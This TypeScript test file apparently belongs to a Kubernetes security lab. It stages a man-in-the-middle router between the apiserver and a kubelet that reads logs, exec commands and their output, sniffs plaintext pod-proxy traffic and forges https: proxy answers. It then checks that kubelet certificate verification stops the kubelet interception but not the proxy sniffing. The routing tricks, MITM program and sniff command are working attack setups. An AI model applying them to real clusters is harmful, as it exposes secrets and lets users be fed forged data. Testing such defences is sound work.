// C9–C12 across hosts: the control plane (this process, root namespace) reaches a node (the real kubelet binary
// in its own network namespace) only through a third namespace, a router, where the attacker runs. With plain
// forwarding everything works. Then the router turns attacker with routes alone (no iptables): `local` routes
// make the node's address and the pod network its own, so the apiserver's connections land on the attacker's
// listeners, and a policy rule sends the attacker's own connections, from its node-side address, on to the
// real node. Without --kubelet-certificate-authority it reads logs and exec (C9); with it the apiserver hangs up
// (C10). The pod proxy is plaintext (C11), and with `https:` the attacker's own certificate is accepted and its
// answer reaches the user (C12).
import { readFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { channelText, type Capture, type ExchangeRecord, type HandshakeFailure } from '@hubspoke/attacker';
import { startCluster, waitFor, type Cluster } from '@hubspoke/lab';
import { issueCertificate } from '@hubspoke/pki';
import { kubectl } from './support/kubectl.ts';
import { startNetnsKubelet } from './support/netns-kubelet.ts';
import { createNetns, freeOctet, type Netns, type NetnsProcess } from './support/netns.ts';
import { waitRunning } from './support/pods.ts';

const REPO = resolve(import.meta.dirname, '..');
const NODE = 'remote-1';
const KUBELET_PORT = 10250;
const FORGED = 'served by the attacker, not the pod\n';

/**
 * Three hosts on two links: control plane 10.203.N.1 ↔ .2 router ↔ 10.204.N.1 … .2 node. The node serves on
 * 10.205.N.1 (its advertised address, on its `lo`) and runs pods in 10.244.N.0/24; the control plane routes both
 * via the router (host-gw). The node's own connections leave from 10.204.N.2, which the attacker never takes,
 * so the kubelet stays connected to the apiserver while the attacker answers for 10.205.N.1.
 */
interface Topology {
  router: Netns;
  node: Netns;
  controlPlane: string;
  /** The router's address on the control plane's link: where the attacker's report is served. */
  routerIP: string;
  /** The router's address on the node's link: the source of the attacker's own connections. */
  routerNodeSide: string;
  nodeIP: string;
  podCIDR: string;
}

async function createTopology(): Promise<Topology> {
  const n = await freeOctet(['10.203', '10.204', '10.205', '10.244']);
  const [nodeIP, podCIDR] = [`10.205.${n}.1`, `10.244.${n}.0/24`];
  const router = await createNetns({
    tag: 'xrtr',
    hostAddress: `10.203.${n}.1/30`,
    nsAddress: `10.203.${n}.2/30`,
    hostRoutes: [`10.204.${n}.0/30`, `${nodeIP}/32`, podCIDR].map((to) => [to, 'via', `10.203.${n}.2`]),
  });
  try {
    const node = await createNetns({
      tag: 'xnod',
      host: router,
      hostAddress: `10.204.${n}.1/30`,
      nsAddress: `10.204.${n}.2/30`,
      loopbackAddresses: [`${nodeIP}/32`],
      // AnyIP: the whole pod CIDR is local, so each pod can bind its own address.
      routes: [['default', 'via', `10.204.${n}.1`], ['local', podCIDR, 'dev', 'lo']],
      hostRoutes: [`${nodeIP}/32`, podCIDR].map((to) => [to, 'via', `10.204.${n}.2`]),
    });
    const forward = await router.exec('sysctl', ['-w', 'net.ipv4.ip_forward=1']);
    if (forward.code !== 0) throw new Error(`sysctl: ${forward.stderr}`);
    // The attacker's own connections (from its node-side address) must not be caught by the `local` routes it
    // adds to intercept: the local table moves below a rule that sends them to the main table.
    await router.ip(['rule', 'add', 'pref', '100', 'lookup', 'local']);
    await router.ip(['rule', 'del', 'pref', '0']);
    await router.ip(['rule', 'add', 'pref', '10', 'from', `10.204.${n}.1`, 'lookup', 'main']);
    return { router, node, controlPlane: router.hostIP, routerIP: router.nsIP, routerNodeSide: node.hostIP, nodeIP, podCIDR };
  } catch (err) {
    await router.close();
    throw err;
  }
}

/** Make the node's address and the pod network local to the router (or forward them again). */
async function intercept(t: Topology, on: boolean): Promise<void> {
  for (const cidr of [`${t.nodeIP}/32`, t.podCIDR]) await t.router.ip(['route', on ? 'add' : 'del', 'local', cidr, 'dev', 'lo']);
}

/** Bytes the router has received from the node. */
async function fromNode(t: Topology): Promise<number> {
  const [link] = JSON.parse(await t.router.ip(['-j', '-s', 'link', 'show', t.node.hostLink])) as { stats64: { rx: { bytes: number } } }[];
  return link.stats64.rx.bytes;
}

/** The kubelet binary in the node namespace, on its flag defaults (anonymous requests allowed, AlwaysAllow). */
function startRemoteKubelet(cluster: Cluster, t: Topology, serving?: { cert: string; key: string }): Promise<NetnsProcess> {
  return startNetnsKubelet({ netns: t.node, cluster, nodeName: NODE, nodeIP: t.nodeIP, port: KUBELET_PORT, podCIDR: t.podCIDR, serving });
}

/** `chatty` logs; `web` serves HTTP on 8080 and HTTPS (self-signed) on 8443 from one pod IP. */
async function startPods(cluster: Cluster): Promise<void> {
  const create = (name: string, containers: Record<string, unknown>[]) =>
    cluster.admin.create('/api/v1/namespaces/default/pods', { apiVersion: 'v1', kind: 'Pod', metadata: { name }, spec: { nodeName: NODE, containers } });
  await create('chatty', [{ name: 'chatty', image: 'hubspoke/logger', env: [{ name: 'INTERVAL_MS', value: '50' }] }]);
  await create('web', [
    { name: 'http', image: 'hubspoke/http-server', ports: [{ containerPort: 8080 }] },
    { name: 'https', image: 'hubspoke/https-server', ports: [{ containerPort: 8443 }] },
  ]);
  await Promise.all(['chatty', 'web'].map((p) => waitRunning(cluster, p)));
}

/** What the attacker has seen: the MITM's captures, and the sniff command's saved exchanges. */
interface AttackerReport {
  mitm: { captures: Capture[]; failures: HandshakeFailure[] };
  sniff: ExchangeRecord[];
}

/** A running attacker on the router: the kubelet MITM and the `sniff` command, two processes. */
interface Attacker {
  report(): Promise<AttackerReport>;
  stop(): Promise<void>;
}

// The MITM as a program: startMitm on the node's address, relaying from the router's node-side address, with an
// HTTP endpoint on the router's control-plane-side address that reports its captures.
const MITM_PROGRAM = `
import { createServer } from 'node:http';
import { pino } from 'pino';
import { startMitm } from '@hubspoke/attacker';
const config = JSON.parse(process.argv[1]);
const mitm = await startMitm({ ...config.mitm, logger: pino() });
const report = createServer((req, res) => res.end(JSON.stringify({ captures: mitm.captures(), failures: mitm.failures() })));
report.listen(0, config.report, () => console.log('ready ' + report.address().port));
`;

async function startAttacker(t: Topology, dir: string): Promise<Attacker> {
  const config = {
    mitm: { listen: { host: t.nodeIP, port: KUBELET_PORT }, upstream: { host: t.nodeIP, port: KUBELET_PORT, localAddress: t.routerNodeSide } },
    report: t.routerIP,
  };
  const output = join(dir, 'sniffed.jsonl');
  const run = (program: string, args: string[]) => t.router.spawn(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', program, ...args], { cwd: REPO });
  const mitm = run(MITM_PROGRAM, [JSON.stringify(config)]);
  // Pod port 8080 relayed and read, 8443 (https:) answered by the attacker itself.
  const sniff = t.router.spawn(process.execPath, [join(REPO, 'packages/attacker/bin/hubspoke-attacker.js'),
    'sniff', '--port=8080', '--tls-port=8443', '--impersonate', `--impersonate-body=${FORGED}`,
    `--source-address=${t.routerNodeSide}`, `--output=${output}`, '--log-level=info',
  ], { cwd: REPO });
  const started = (proc: NetnsProcess, line: RegExp, what: string) =>
    waitFor(
      () => {
        if (proc.child.exitCode !== null) throw new Error(`${what} exited ${proc.child.exitCode}:\n${proc.output()}`);
        return line.exec(proc.output()) ?? undefined;
      },
      { timeoutMs: 15_000, intervalMs: 50, what },
    );
  const [ready] = await Promise.all([started(mitm, /^ready (\d+)$/m, 'the mitm'), started(sniff, /^sniffing on /m, 'the sniffer')]);
  const reportURL = `http://${t.routerIP}:${ready[1]}/`;
  return {
    async report() {
      const text = await (await fetch(reportURL)).text();
      // Stream messages carry Buffers, which JSON turns into {type, data}.
      const captured = JSON.parse(text, (_key, value: unknown) => {
        const v = value as { type?: unknown; data?: unknown } | null;
        return v && v.type === 'Buffer' && Array.isArray(v.data) ? Buffer.from(v.data as number[]) : value;
      }) as AttackerReport['mitm'];
      const saved = await readFile(output, 'utf8').catch(() => '');
      return { mitm: captured, sniff: saved.split('\n').filter(Boolean).map((l) => JSON.parse(l) as ExchangeRecord) };
    },
    async stop() {
      await Promise.all([mitm.stop(), sniff.stop()]);
    },
  };
}

/** The sniffed exchange `match` picks, once the sniff command has saved it. */
async function sniffed(attacker: Attacker, match: (r: ExchangeRecord) => boolean): Promise<ExchangeRecord> {
  return waitFor(async () => (await attacker.report()).sniff.find(match), { timeoutMs: 5_000, intervalMs: 50, what: 'the sniffed exchange to be saved' });
}

let topology: Topology;

beforeAll(async () => {
  topology = await createTopology();
});

afterAll(async () => {
  await topology?.node.close();
  await topology?.router.close();
});

describe('an attacker routing between the control plane and a node, as Kubernetes defaults leave it', () => {
  let cluster: Cluster;
  let kubelet: NetnsProcess | undefined;
  let attacker: Attacker | undefined;
  let podIP: string;
  const k = (args: string[]) => kubectl(args, { kubeconfig: cluster.adminKubeconfig, version: '1.32' });

  beforeAll(async () => {
    cluster = await startCluster({ nodes: [], controlPlaneAddress: topology.controlPlane });
    kubelet = await startRemoteKubelet(cluster, topology);
    await startPods(cluster);
    podIP = ((await cluster.admin.get('/api/v1/namespaces/default/pods/web')).status as { podIP: string }).podIP;
  }, 45_000);

  afterAll(async () => {
    await attacker?.stop();
    await intercept(topology, false).catch(() => undefined);
    // The kubelet first, so the cluster's close is not slowed by a node that keeps calling in.
    await kubelet?.stop();
    await cluster?.close();
  });

  it('forwards logs, exec and the pod proxy to the node', async () => {
    expect(podIP.startsWith(topology.podCIDR.replace('0/24', ''))).toBe(true);
    const before = await fromNode(topology);
    await waitFor(async () => (await k(['logs', 'chatty'])).stdout.includes('hello from chatty'), { timeoutMs: 10_000, intervalMs: 100, what: 'a log line' });
    expect(await k(['exec', 'chatty', '--', 'echo', 'routed'])).toMatchObject({ code: 0, stdout: 'routed\n' });
    expect((await k(['get', '--raw', '/api/v1/namespaces/default/pods/web:8080/proxy/healthz'])).stdout).toBe('ok\n');
    expect((await k(['get', '--raw', '/api/v1/namespaces/default/pods/https:web:8443/proxy/healthz'])).stdout).toBe('ok\n');
    // The router carried a 256 KiB answer from the pod to the apiserver.
    expect((await k(['get', '--raw', '/api/v1/namespaces/default/pods/web:8080/proxy/bytes?n=262144'])).code).toBe(0);
    expect((await fromNode(topology)) - before).toBeGreaterThan(262_144);
  });

  describe('once the router intercepts', () => {
    beforeAll(async () => {
      await intercept(topology, true);
      attacker = await startAttacker(topology, cluster.dir);
    }, 20_000);

    it('reads the log text and the exec command and output (mitm-observe, mitm-read-output)', async () => {
      const logs = await k(['logs', 'chatty', '--tail=3']);
      expect(logs).toMatchObject({ code: 0, stderr: '' });
      expect(logs.stdout).toMatch(/hello from chatty\n$/);
      const secret = `secret-${Math.floor(Math.random() * 32768)}`;
      const exec = await k(['exec', 'chatty', '--', 'echo', secret]);
      expect(exec).toMatchObject({ code: 0, stdout: `${secret}\n` });

      const { mitm } = await attacker!.report();
      expect(mitm.failures).toEqual([]);
      const exchanges = mitm.captures.flatMap((c) => c.exchanges);
      const logExchange = exchanges.find((x) => x.request.target?.startsWith('/containerLogs/default/chatty/chatty'))!;
      expect(logExchange.request.raw).toMatch(/^GET \/containerLogs\/default\/chatty\/chatty\?tailLines=3 HTTP\/1\.1\r\n/);
      expect(logExchange.response).toMatchObject({ status: 200, body: logs.stdout });
      const execCapture = mitm.captures.find((c) => c.exchanges[0]?.request.target?.includes(`command=${secret}`))!;
      expect(execCapture.exchanges[0].request.target).toMatch(new RegExp(`^/exec/default/chatty/chatty\\?command=echo&command=${secret}&`));
      expect(channelText(execCapture, 1, 'to-apiserver')).toBe(`${secret}\n`);
      // Every intercepted connection came from the control plane, across the router.
      expect(mitm.captures.every((c) => c.client.startsWith(`${topology.controlPlane}:`))).toBe(true);
    });

    it('reads a proxied pod request and the pod\'s answer in plaintext (proxy-sniff)', async () => {
      const page = await k(['get', '--raw', '/api/v1/namespaces/default/pods/web:8080/proxy/']);
      expect(page.code).toBe(0);
      expect(page.stdout).toContain('Hello from pod default/web');

      const exchange = await sniffed(attacker!, (r) => r.destination === `${podIP}:8080`);
      expect(exchange).toMatchObject({ scheme: 'http', impersonated: false });
      expect(exchange.client.startsWith(`${topology.controlPlane}:`)).toBe(true);
      expect(exchange.request.raw).toMatch(/^GET \/ HTTP\/1\.1\r\n/);
      expect(exchange.response).toMatchObject({ status: 200, body: page.stdout });
    });

    it('answers an https: proxy request with its own certificate and body (proxy-impersonate)', async () => {
      const healthChecks = async () => ((await k(['logs', 'web', '-c', 'https'])).stdout.match(/"GET \/healthz HTTP\/1\.1"/g) ?? []).length;
      const before = await healthChecks();
      const r = await k(['get', '--raw', '/api/v1/namespaces/default/pods/https:web:8443/proxy/healthz']);
      expect(r).toMatchObject({ code: 0, stdout: FORGED });

      // The attacker terminated the apiserver's TLS, so it also read the request.
      const exchange = await sniffed(attacker!, (x) => x.destination === `${podIP}:8443`);
      expect(exchange).toMatchObject({ scheme: 'https', impersonated: true, response: { status: 200, body: FORGED } });
      expect(exchange.request.raw).toMatch(/^GET \/healthz HTTP\/1\.1\r\n/);
      // The real pod never saw it: its access log has no new line.
      expect(await healthChecks()).toBe(before);
    });
  });
});

describe('the same attacker once the apiserver verifies kubelets (--kubelet-certificate-authority)', () => {
  let cluster: Cluster;
  let kubelet: NetnsProcess | undefined;
  let attacker: Attacker | undefined;
  const k = (args: string[]) => kubectl(args, { kubeconfig: cluster.adminKubeconfig, version: '1.32' });

  beforeAll(async () => {
    cluster = await startCluster({ nodes: [], controlPlaneAddress: topology.controlPlane, verifyKubelets: true });
    const serving = await issueCertificate({ ca: cluster.pki.ca, commonName: NODE, ipAddresses: [topology.nodeIP], usage: 'server' });
    kubelet = await startRemoteKubelet(cluster, topology, serving);
    await startPods(cluster);
  }, 45_000);

  afterAll(async () => {
    await attacker?.stop();
    await intercept(topology, false).catch(() => undefined);
    await kubelet?.stop();
    await cluster?.close();
  });

  it('gets logs from the real kubelet through the router, whose certificate the cluster CA signed', async () => {
    await waitFor(async () => (await k(['logs', 'chatty'])).stdout.includes('hello from chatty'), { timeoutMs: 10_000, intervalMs: 100, what: 'a log line' });
  });

  it('refuses the attacker\'s certificate, and the attacker learns nothing', async () => {
    await intercept(topology, true);
    attacker = await startAttacker(topology, cluster.dir);
    const logs = await k(['logs', 'chatty']);
    expect(logs.code).toBe(1);
    expect(logs.stderr.trim()).toBe(
      `Error from server: Get "https://${topology.nodeIP}:${KUBELET_PORT}/containerLogs/default/chatty/chatty": tls: failed to verify certificate: x509: certificate signed by unknown authority`,
    );
    const { mitm } = await attacker.report();
    expect(mitm.captures).toEqual([]);
    // The apiserver completed TLS, judged the certificate and hung up (a reset socket forgets its peer's address).
    expect(mitm.failures.length).toBeGreaterThanOrEqual(1);
  }, 20_000);

  it('still lets the attacker read the pod proxy, which the flag does not cover', async () => {
    const page = await k(['get', '--raw', '/api/v1/namespaces/default/pods/web:8080/proxy/headers']);
    expect(page.code).toBe(0);
    const exchange = await sniffed(attacker!, (x) => x.request.raw.startsWith('GET /headers '));
    expect(exchange.response).toMatchObject({ status: 200, body: page.stdout });
  });
});
